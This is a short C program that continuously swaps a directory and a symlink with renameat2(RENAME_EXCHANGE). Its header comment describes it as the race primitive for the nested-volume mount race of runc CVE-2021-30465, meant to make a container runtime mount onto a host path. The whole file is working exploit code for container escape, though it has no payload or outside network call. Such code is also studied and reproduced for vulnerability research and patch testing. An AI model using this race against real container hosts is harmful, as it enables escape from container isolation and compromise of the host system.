/* swap A B: exchange two names forever with renameat2(RENAME_EXCHANGE), the nested-volume race
 * of runc CVE-2021-30465. A is a directory, B a symlink to a host path: a runtime that resolves a
 * mount target as a string, then creates or mounts it by path, lands on the host half the time. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: swap A B\n");
        return 2;
    }
    printf("swapping %s and %s\n", argv[1], argv[2]);
    fflush(stdout);
    for (unsigned long n = 0;; n++) {
        if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
            perror("renameat2");
            return 1;
        }
    }
}
